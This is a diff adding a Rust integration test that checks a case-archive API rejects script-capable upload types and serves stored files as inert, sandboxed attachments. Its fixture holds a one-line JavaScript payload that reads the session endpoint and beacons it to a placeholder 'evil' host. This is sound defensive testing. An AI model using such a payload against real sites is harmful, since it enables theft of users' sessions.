@@ -434,3 +434,76 @@ async fn archiving_needs_a_result_document() {
     let events = consumer(&js, &format!("bb.evt.{OFFICE}.case.archived")).await;
     assert!(next_message(&events, Duration::from_secs(1)).await.is_none(), "nothing is published for a refusal");
 }
+
+#[tokio::test]
+async fn the_archive_takes_documents_and_images_only_and_serves_them_inert() {
+    use bangban_contracts::intake::{
+        self, Actor,
+        results::{DocumentContent, FileDocument, FiledDocument},
+    };
+    use bangban_platform::rpc;
+
+    let app = TestApp::spawn().await;
+    let token = staff(&app, "assist");
+    let case = create(&app, "assist").await;
+    let archive = format!("/api/v1/cases/{}/archive", case.id);
+    let upload = |media_type: &str, bytes: &[u8]| json!({"doc_type": "process_material", "title": "材料", "media_type": media_type, "content": base64::encode(bytes)});
+
+    // What a browser would run or render is refused by name, and nothing is stored.
+    let script = b"fetch('/api/v1/session').then(r => r.json()).then(s => navigator.sendBeacon('//evil', s))";
+    for media_type in ["text/javascript", "text/html", "image/svg+xml", "application/xhtml+xml", "text/plain"] {
+        let p = problem(post(&app, &token, &archive, Some(upload(media_type, script))).await, 422).await;
+        assert_eq!(p["errors"][0]["field"], "media_type", "{media_type}: {p}");
+        assert!(p["errors"][0]["reason_en"].as_str().unwrap().contains("application/pdf"), "{p}");
+    }
+    // Intake refuses it too, whoever calls it on the bus.
+    let direct = FileDocument {
+        actor: Actor { sub: "bus".into(), role: "assistant".into(), office: OFFICE.into() },
+        case_id: case.id,
+        doc_type: bangban_contracts::intake::results::ArchiveDocType::ProcessMaterial,
+        title: "脚本".into(),
+        media_type: "text/javascript".into(),
+        size: script.len() as u64,
+        content: DocumentContent::Inline { data: base64::encode(script) },
+    };
+    let res = rpc::call::<_, FiledDocument>(
+        &app.client,
+        intake::SERVICE,
+        intake::results::ops::ARCHIVE_FILE,
+        &direct,
+        Duration::from_secs(5),
+    )
+    .await;
+    match res {
+        Err(rpc::CallError::Problem(p)) => assert_eq!((p.status, p.errors[0].field.as_str()), (422, "media_type")),
+        other => panic!("refused: {other:?}"),
+    }
+    assert_eq!(count_rows(&app.intake_db, "archive_document").await, 0);
+
+    // A scan is taken, its media type normalised, and downloaded as an inert attachment.
+    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
+    let res = post(&app, &token, &archive, Some(upload("Image/PNG; name=scan", &png))).await;
+    assert_eq!(res.status(), 201);
+    let doc: ArchiveDocument = res.json().await.unwrap();
+    assert_eq!(doc.media_type, "image/png");
+    let res = get(&app, &token, &format!("{archive}/{}", doc.id)).await;
+    assert_eq!(res.status(), 200);
+    let h = res.headers();
+    assert_eq!(h["content-type"], "image/png");
+    assert!(h["content-disposition"].to_str().unwrap().starts_with("attachment;"), "{h:?}");
+    assert_eq!(h["x-content-type-options"], "nosniff");
+    let csp = h["content-security-policy"].to_str().unwrap();
+    assert!(csp.starts_with("sandbox") && csp.contains("default-src 'none'"), "{csp}");
+    assert!(h["cache-control"].to_str().unwrap().contains("no-store"), "{h:?}");
+
+    // A record filed before the list existed, under a type a browser would run, is served as opaque bytes.
+    use sea_orm::{ConnectionTrait, Statement};
+    let db = &app.intake_db;
+    let sql = format!("UPDATE archive_document SET media_type = 'text/javascript' WHERE id = '{}'", doc.id);
+    db.execute_raw(Statement::from_string(db.get_database_backend(), sql)).await.unwrap();
+    let res = get(&app, &token, &format!("{archive}/{}", doc.id)).await;
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.headers()["content-type"], "application/octet-stream");
+    assert!(res.headers()["content-security-policy"].to_str().unwrap().starts_with("sandbox"));
+    assert_eq!(&res.bytes().await.unwrap()[..], &png[..]);
+}
